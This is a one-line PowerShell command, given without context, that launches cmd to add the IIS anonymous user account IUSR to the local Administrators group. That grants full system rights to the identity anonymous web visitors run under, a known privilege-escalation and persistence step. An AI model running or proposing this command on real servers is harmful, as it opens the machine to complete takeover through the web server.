Start-Process cmd -ArgumentList '/s /c "net localgroup "Administrators" IUSR /add"' -Wait
